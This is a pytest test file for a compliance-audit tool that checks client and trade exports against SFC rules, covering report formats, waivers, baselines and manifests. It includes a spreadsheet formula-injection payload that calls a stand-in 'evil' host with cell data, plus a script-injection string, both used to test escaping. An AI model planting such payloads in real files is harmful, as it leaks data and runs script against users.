"""Report formats, escaping, atomic writes, waivers, baselines, as-of replay and the evidence manifest."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from conftest import SAMPLES, pairs, write

from sfc_check.cli import output as output_module
from sfc_check.report.csv_report import safe_cell

AS_OF = ("--as-of", "2026-06-30")
HOSTILE = '=HYPERLINK("http://evil/?x="&A1,"click")'
MARKUP = "<script>alert(1)</script> & <b>Chan</b>"


def hostile_exports(tmp_path: Path) -> Path:
    """A retail client with a formula for a trade id and markup for a client id."""
    write(tmp_path / "clients.csv", "client_id,name,client_type,investor_class,has_securities_margin_account\n"
          f'"{MARKUP}",x,individual,retail,Y\n')
    write(tmp_path / "perp_trades.csv", "trade_id,client_id,instrument,trade_time,side,quantity,price,leverage\n"
          f'"{HOSTILE.replace(chr(34), chr(34) * 2)}","{MARKUP}",BTC-USD-PERP,2026-06-01T10:00:00+08:00,buy,1,1,1\n'
          f'"-2+3","{MARKUP}",BTC-USD-PERP,2026-06-01T10:00:00+08:00,buy,1,1,1\n')
    return tmp_path


@pytest.mark.parametrize("value,expected", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
                                            ("\tx", "'\tx"), ("\rx", "'\rx"), ("ok", "ok"), (None, ""), (5, "5")])
def test_safe_cell_defuses_formulas(value, expected) -> None:
    assert safe_cell(value) == expected


def test_csv_report_escapes_formula_injection(cli, tmp_path) -> None:
    out = tmp_path / "out.csv"
    cli("audit", hostile_exports(tmp_path / "data"), *AS_OF, "--only", "PERP-ACCESS-001", "--output", out)
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8"))))
    assert {r["key"] for r in rows} == {"'" + HOSTILE, "'-2+3"}  # the values, defused, nothing lost
    assert {r["key_fields"] for r in rows} == {"trade_id"}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_html_and_markdown_escape_hostile_values(cli, tmp_path) -> None:
    html_path, md_path = tmp_path / "r.html", tmp_path / "r.md"
    cli("audit", hostile_exports(tmp_path / "data"), *AS_OF, "--output", html_path, "--output", md_path)
    page = html_path.read_text("utf-8")
    # one script element, the report's own filter (inline); the data's <script> is text
    assert page.count("<script") == 1 and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "default-src 'none'" in page  # the page may load nothing from anywhere
    assert "http://" not in page.split("</style>")[0]  # no external CSS
    assert "<link" not in page and "src=" not in page  # self-contained: no external CSS, JS or images
    text = md_path.read_text("utf-8")
    assert "<script>" not in text and "\\<script\\>" in text


def test_html_report_has_summary_sections_and_manifest(cli, tmp_path) -> None:
    out = tmp_path / "r.html"
    cli("audit", SAMPLES / "exports", *AS_OF, "--output", out)
    page = out.read_text("utf-8")
    for needle in ("<h2>Summary</h2>", "<h2>Rules</h2>", 'id="FIN-COLL-002"', "para 7(b)",
                   "The SFC requires a haircut of at least 60", "P015", "Evidence manifest", "rule pack sha256",
                   "@media print"):
        assert needle in page


def test_html_at_scale_caps_rows_per_rule_and_says_where_the_rest_are(cli, tmp_path) -> None:
    import re
    shutil.copytree(SAMPLES / "exports", tmp_path / "d")
    trades = tmp_path / "d" / "perp_trades.csv"
    lines = trades.read_text("utf-8").splitlines()
    retail = next(line for line in lines if line.startswith("T002,"))
    lines += [retail.replace("T002,", f"X{i:05d},", 1) for i in range(1500)]
    trades.write_text("\n".join(lines) + "\n", "utf-8")
    page_path, full = tmp_path / "r.html", tmp_path / "all.csv"
    cli("audit", tmp_path / "d", *AS_OF, "-o", page_path, "-o", full, "-q")
    page = page_path.read_text("utf-8")
    section = page.split('<details id="PERP-ACCESS-001" open>')[1].split("</details>")[0]
    assert section.count("<tr") == 201   # a header and 200 rows
    assert f"… and 1,302 more, not shown here: every violation is in {full}" in section
    assert '<a href="#PERP-ACCESS-001">PERP-ACCESS-001</a>' in page          # summary links to the section
    assert re.search(r'<svg role="img" aria-label="Violations by rule"', page)
    assert "1,502" in page.split("</svg>")[0].split("<svg")[1]                  # the chart's bar label
    assert 'id="filter"' in page and "thead { display: table-header-group; }" in page
    assert len(page) < 400_000


def test_junit_parses_with_one_testcase_per_rule(cli, tmp_path) -> None:
    (tmp_path / "data").mkdir()
    for name in ("collateral.csv", "clients.csv", "va_financing_loans.csv"):
        (tmp_path / "data" / name).write_bytes((SAMPLES / "exports" / name).read_bytes())
    out = tmp_path / "r.xml"
    cli("audit", tmp_path / "data", *AS_OF, "--output", out)
    suite = ET.parse(out).getroot()
    cases = suite.findall("testcase")
    assert len(cases) == 41 == int(suite.get("tests"))
    skipped = [c for c in cases if c.find("skipped") is not None]
    failed = {c.get("name").split()[0] for c in cases if c.find("failure") is not None}
    assert len(skipped) == 30 == int(suite.get("skipped"))
    assert failed == {"FIN-ELIG-001", "FIN-CREDIT-001", "FIN-CREDIT-002", "FIN-DISC-001", "FIN-COLL-001",
                      "FIN-COLL-002", "FIN-COLL-003", "FIN-COLL-004", "FIN-COVER-001", "FIN-MC-001", "FIN-FRR-001"}
    below = next(c for c in cases if c.get("name").startswith("FIN-VAL-001")).find("skipped")
    assert below.get("message") == "1 violation(s) not failing the run: severity medium, below --fail-on high"


def test_junit_agrees_with_the_exit_code(cli, tmp_path) -> None:
    """--fail-on none exits 0, so no testcase fails; --fail-on low fails every rule with a violation."""
    def failures(*args: str) -> tuple[int, int]:
        out = tmp_path / "r.xml"
        code = cli("audit", SAMPLES / "exports", *AS_OF, "--output", out, "--quiet", *args).code
        suite = ET.parse(out).getroot()
        assert int(suite.get("failures")) == len([c for c in suite if c.find("failure") is not None])
        return code, int(suite.get("failures"))
    assert failures("--fail-on", "none") == (0, 0)
    assert failures("--fail-on", "low") == (1, 41)
    assert failures("--fail-on", "critical") == (1, 16)


def test_junit_stays_well_formed_with_control_characters_in_the_data(cli, tmp_path) -> None:
    shutil.copytree(SAMPLES / "exports", tmp_path / "d")
    trades = tmp_path / "d" / "perp_trades.csv"
    trades.write_text(trades.read_text("utf-8").replace("T002,", "T002\x1b\x00X,"), "utf-8")
    out = tmp_path / "r.xml"
    cli("audit", tmp_path / "d", *AS_OF, "--output", out, "--quiet")
    text = ET.tostring(ET.parse(out).getroot(), encoding="unicode")
    assert "T002\\x1b\\x00X" in text


def test_several_outputs_and_format_from_extension(cli, tmp_path) -> None:
    outs = [tmp_path / n for n in ("a.json", "b.csv", "c.md", "d.html", "e.xml")]
    result = cli("audit", SAMPLES / "clean", *AS_OF, *[x for o in outs for x in ("--output", o)], "--quiet")
    assert result.code == 0 and all(o.stat().st_size > 0 for o in outs)
    assert json.loads(outs[0].read_text("utf-8"))["summary"]["violations"] == 0
    assert cli("audit", SAMPLES / "clean", "--output", tmp_path / "x.txt").code == 2
    assert cli("audit", SAMPLES / "clean", *AS_OF, "--format", "csv", "--output", tmp_path / "x.txt").code == 0
    assert (tmp_path / "x.txt").read_text("utf-8").startswith("rule_id,severity")


def test_a_failed_write_leaves_the_previous_report_intact(cli, tmp_path, monkeypatch) -> None:
    out = tmp_path / "report.json"
    out.write_text('{"previous": true}', "utf-8")

    def crash(src, dst):
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(output_module.os, "replace", crash)
    result = cli("audit", SAMPLES / "exports", *AS_OF, "--output", out)
    assert result.code == 2 and "No space left" in result.err
    assert out.read_text("utf-8") == '{"previous": true}'
    assert [p.name for p in tmp_path.iterdir()] == ["report.json"]  # no temp file left behind


def waiver_file(tmp_path: Path, *entries: str) -> Path:
    return write(tmp_path / "waivers.yaml", "waivers:\n" + "".join(entries))


def waiver(rule: str, key: str, expires: str, approved: str = "2026-06-01") -> str:
    return (f"  - rule_id: {rule}\n    key: {key}\n    reason: client onboarding exception agreed with the SFC\n"
            f"    approved_by: Head of Compliance\n    approved_on: \"{approved}\"\n    expires_on: \"{expires}\"\n")


def test_waivers_apply_expire_and_go_stale(cli, tmp_path) -> None:
    path = waiver_file(tmp_path,
                       waiver("PERP-ACCESS-001", "{trade_id: T002}", "2026-12-31"),    # applies
                       waiver("FIN-COLL-002", "{position_id: P015}", "2026-06-29"),     # expired the day before
                       waiver("FIN-COLL-001", "{position_id: P999}", "2026-12-31"))     # matches nothing
    report = cli("audit", SAMPLES / "exports", *AS_OF, "--waivers", path, "--format", "json").json()
    waived = [v for v in report["violations"] if v["waived"]]
    assert [(v["rule_id"], v["key"]) for v in waived] == [("PERP-ACCESS-001", {"trade_id": "T002"})]
    assert waived[0]["waiver"]["approved_by"] == "Head of Compliance"
    assert pairs(report) >= {("PERP-ACCESS-001", "T002"), ("FIN-COLL-002", "P015")}  # never hidden from JSON
    assert [w["rule_id"] for w in report["waivers"]["expired"]] == ["FIN-COLL-002"]
    assert [w["rule_id"] for w in report["waivers"]["stale"]] == ["FIN-COLL-001"]
    assert report["summary"]["waived"] == 1
    assert report["summary"]["by_severity"]["critical"] == 23  # 24 critical less the waived one
    rule = next(r for r in report["rules"] if r["id"] == "PERP-ACCESS-001")
    assert rule["waived"] == 1 and rule["violations"] == 2


def test_waiving_every_failing_violation_makes_the_exit_code_0(cli, tmp_path) -> None:
    path = waiver_file(tmp_path, waiver("FIN-COLL-002", "{position_id: P015}", "2026-07-31"))
    args = ("audit", SAMPLES / "exports", *AS_OF, "--only", "FIN-COLL-002", "--quiet")
    assert cli(*args).code == 1
    assert cli(*args, "--waivers", path).code == 0


def test_bad_waiver_file_is_exit_2_with_line(cli, tmp_path) -> None:
    path = write(tmp_path / "w.yaml", "waivers:\n  - rule_id: FIN-COLL-002\n    key: {position_id: P1}\n    reason: r\n")
    result = cli("audit", SAMPLES / "clean", "--waivers", path)
    assert result.code == 2 and "w.yaml:2" in result.err


def test_baseline_marks_new_persisting_and_resolved(cli, tmp_path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    for f in (SAMPLES / "exports").iterdir():
        (data / f.name).write_bytes(f.read_bytes())
    first = tmp_path / "monday.json"
    assert cli("audit", data, *AS_OF, "--output", first, "--quiet").code == 1
    # Tuesday: P015 fixed, a new ineligible position appears
    text = (data / "collateral.csv").read_text("utf-8").replace("P015,C012,ETH,virtual_asset,4,100000,59.99",
                                                               "P015,C012,ETH,virtual_asset,4,100000,60")
    (data / "collateral.csv").write_text(text + "P022,C015,XRP,virtual_asset,100,1000,70,2026-06-30,N,100\n", "utf-8")
    report = cli("audit", data, *AS_OF, "--baseline", first, "--format", "json").json()
    new = {(v["rule_id"], list(v["key"].values())[0]) for v in report["violations"] if v["baseline"] == "new"}
    assert new == {("FIN-COLL-001", "P022")}
    assert all(v["baseline"] == "persisting" for v in report["violations"] if (v["rule_id"], list(v["key"].values())[0]) not in new)
    assert [(r["rule_id"], r["key"]) for r in report["baseline"]["resolved"]] == [("FIN-COLL-002", {"position_id": "P015"})]
    assert report["summary"]["new"] == 1 and report["summary"]["resolved"] == 1
    table = cli("audit", data, *AS_OF, "--baseline", first).out
    assert "1 resolved since the baseline:\n  FIN-COLL-002 [position_id=P015]\n" in table
    # --fail-on-new: only the new medium... the new one is critical, so still 1; with it waived, 0
    assert cli("audit", data, *AS_OF, "--baseline", first, "--fail-on-new", "--quiet").code == 1
    path = waiver_file(tmp_path, waiver("FIN-COLL-001", "{position_id: P022}", "2026-12-31"))
    assert cli("audit", data, *AS_OF, "--baseline", first, "--fail-on-new", "--waivers", path, "--quiet").code == 0
    # the first night: no baseline yet is a warning, and every violation is new
    first_night = cli("audit", data, *AS_OF, "--baseline", tmp_path / "nope.json", "--fail-on-new", "--quiet")
    assert first_night.code == 1 and "nope.json does not exist yet" in first_night.err
    assert first_night.out.startswith("FAIL (new critical 24; new high 23): 53 violations — 53 new, 0 resolved")
    quiet = cli("audit", data, *AS_OF, "--baseline", tmp_path / "nope.json", "--baseline-optional", "--quiet")
    assert quiet.code == 1 and not quiet.err


def test_skipped_rules_do_not_resolve_baseline_violations(cli, tmp_path) -> None:
    first = tmp_path / "first.json"
    cli("audit", SAMPLES / "exports", *AS_OF, "--output", first, "--quiet")
    report = cli("audit", SAMPLES / "exports", *AS_OF, "--only", "FIN-COLL-002", "--baseline", first,
                 "--format", "json").json()
    assert report["baseline"]["resolved"] == []


def test_as_of_selects_rules_in_force_and_dated_parameter_values(cli, tmp_path) -> None:
    rules = tmp_path / "rules"
    src = (Path(__file__).parent.parent / "rules" / "va-financing" / "FIN-COLL-002.yaml").read_text("utf-8")
    dated = src.replace("    value: 60\n", "    values:\n      - {from: \"2026-02-11\", value: 60}\n"
                                             "      - {from: \"2026-07-01\", value: 65, note: revised on notice}\n")
    write(rules / "FIN-COLL-002.yaml", dated)
    write(rules / "FIN-COLL-001.yaml", (Path(__file__).parent.parent / "rules" / "va-financing" / "FIN-COLL-001.yaml")
          .read_text("utf-8").replace('effective_from: "2026-02-11"', 'effective_from: "2026-02-11"\neffective_to: "2026-06-29"'))
    june = cli("audit", SAMPLES / "exports", "--rules", rules, "--as-of", "2026-06-30", "--format", "json").json()
    july = cli("audit", SAMPLES / "exports", "--rules", rules, "--as-of", "2026-07-01", "--format", "json").json()
    assert {k for r, k in pairs(june) if r == "FIN-COLL-002"} == {"P015"}
    assert {k for r, k in pairs(july) if r == "FIN-COLL-002"} == {"P001", "P006", "P009", "P011", "P015", "P019", "P030"}
    june_rule = {r["id"]: r for r in june["rules"]}
    assert june_rule["FIN-COLL-001"]["status"] == "not_in_force" and "2026-06-29" in june_rule["FIN-COLL-001"]["reason"]
    assert june_rule["FIN-COLL-002"]["parameters"][0]["value"] == "60"
    assert {r["id"]: r for r in july["rules"]}["FIN-COLL-002"]["parameters"][0]["value"] == "65"
    assert june["summary"]["rules_not_in_force"] == 1


def test_manifest_and_identical_runs(cli, tmp_path) -> None:
    a = cli("audit", SAMPLES / "exports", *AS_OF, "--format", "json").json()
    b = cli("audit", SAMPLES / "exports", *AS_OF, "--format", "json").json()
    assert json.dumps(a["violations"]) == json.dumps(b["violations"])
    m = a["manifest"]
    assert m["rule_pack_sha256"] == b["manifest"]["rule_pack_sha256"] and len(m["rule_files"]) == 41
    assert m["rule_files"][0]["path"] == "affiliated-market-makers/AMM-ACCESS-001.yaml"
    assert {i["path"] for i in m["inputs"]} == {f.name for f in (SAMPLES / "exports").iterdir()}
    assert m["parameters"]["FIN-COLL-002"] == {"min_va_haircut_pct": "60"}
    assert m["as_of"] == "2026-06-30" and m["timezone"] == "Asia/Hong_Kong" and m["started_at"] <= m["finished_at"]
    import hashlib
    clients = next(i for i in m["inputs"] if i["dataset"] == "clients")
    assert clients["sha256"] == hashlib.sha256((SAMPLES / "exports" / "clients.csv").read_bytes()).hexdigest()


def test_new_report_files_get_normal_permissions(cli, tmp_path) -> None:
    out = tmp_path / "r.json"
    cli("audit", SAMPLES / "clean", *AS_OF, "--output", out, "--quiet")
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask


@pytest.mark.parametrize("content,expected", [
    ('[{"rule_id": "FIN-COLL-002"}]', "expected an sfc-check JSON report"),
    ('{"run": {"as_of": "2026-06-29"}}', "expected an sfc-check JSON report"),
    ('{"run": {}, "violations": [\n  {"rule_id": "X", "key": {}},\n  oops\n]}', "before.json:3:3: invalid JSON"),
    ("", "empty file"),
    ('{"run": {}, "violations": [{"rule_id": "X", "key": {}}, {"rule_id": {"field": "x"}, "key": {}}]}',
     "before.json: violation 2 is not an sfc-check violation"),
    ('{"run": {}, "violations": [{"rule_id": "X", "key": {"trade_id": ["T1"]}}]}',
     "before.json: violation 1 is not an sfc-check violation")])
def test_a_baseline_that_is_not_a_report_is_exit_2_with_where(cli, tmp_path, content, expected) -> None:
    path = tmp_path / "before.json"
    path.write_text(content, "utf-8")
    result = cli("audit", SAMPLES / "exports", *AS_OF, "--baseline", path, "--quiet")
    assert result.code == 2 and expected in result.err and "Traceback" not in result.err


def test_a_hand_edited_baseline_with_a_number_for_a_key_is_still_compared(cli, tmp_path) -> None:
    """A key value written as a JSON number (a hand-edited or another tool's report) is compared as text, as
    every identity is; a resolved entry shows it as text. It used to stop the run with an internal error."""
    before = json.loads(cli("audit", SAMPLES / "exports", *AS_OF, "--format", "json").out)
    trade = next(v for v in before["violations"] if v["rule_id"] == "PERP-ACCESS-001")
    gone = {"rule_id": "PERP-ACCESS-001", "key": {"trade_id": 1.5}, "message": {"not": "text"}, "severity": 3}
    before["violations"] += [gone]
    before["run"]["as_of"] = ["not", "a", "date"]
    path = tmp_path / "before.json"
    path.write_text(json.dumps(before), "utf-8")
    result = cli("audit", SAMPLES / "exports", *AS_OF, "--baseline", path, "--format", "json")
    assert result.code == 1, result.err
    report = result.json()
    assert report["baseline"]["resolved"] == [{"rule_id": "PERP-ACCESS-001", "key": {"trade_id": "1.5"},
                                               "message": None, "severity": None}]
    assert report["baseline"]["previous_as_of"] is None
    same = next(v for v in report["violations"] if v["rule_id"] == "PERP-ACCESS-001" and v["key"] == trade["key"])
    assert same["baseline"] == "persisting"


def test_baseline_is_read_as_a_stream_keeping_only_identities(tmp_path) -> None:
    """Evidence and the report's other sections are not kept; the run's as-of date is."""
    from sfc_check.governance.baseline import load_baseline

    report = {"tool": {}, "run": {"as_of": "2026-06-29"}, "rules": [{"id": "R"}] * 3,
              "violations": [{"rule_id": "R", "key": {"trade_id": f"T{i}"}, "message": "m", "severity": "high",
                              "evidence": {"big": "x" * 1000}} for i in range(50)],
              "rejected_rows": [{"row": i} for i in range(100)]}
    path = tmp_path / "before.json"
    path.write_text(json.dumps(report, indent=2), "utf-8")
    baseline = load_baseline(path)
    assert baseline.previous_as_of == "2026-06-29" and baseline.identities is not None
    assert len(baseline.identities) == 50
    resolved = baseline.identities.resolved(["R"], str(path))
    assert [r["key"]["trade_id"] for r in resolved][:3] == ["T0", "T1", "T10"]
    assert all(r == {"rule_id": "R", "key": r["key"], "message": "m", "severity": "high"} for r in resolved)


def test_a_waiver_approved_after_the_audit_date_is_listed_as_not_yet_approved(cli, tmp_path) -> None:
    path = waiver_file(tmp_path, waiver("FIN-COLL-002", "{position_id: P015}", "2026-12-31", approved="2026-07-15"))
    result = cli("audit", SAMPLES / "exports", *AS_OF, "--waivers", path, "-f", "json")
    report = result.json()
    assert [w["key"] for w in report["waivers"]["not_yet_approved"]] == [{"position_id": "P015"}]
    assert not report["waivers"]["stale"] and not report["waivers"]["applied"]
    assert report["summary"]["waived"] == 0 and result.code == 1
    early = cli("audit", SAMPLES / "exports", *AS_OF, "--waivers", path).out
    assert "1 waiver(s) not yet approved on 2026-06-30" in early
    assert "FIN-COLL-002 [position_id=P015] approved 2026-07-15" in early
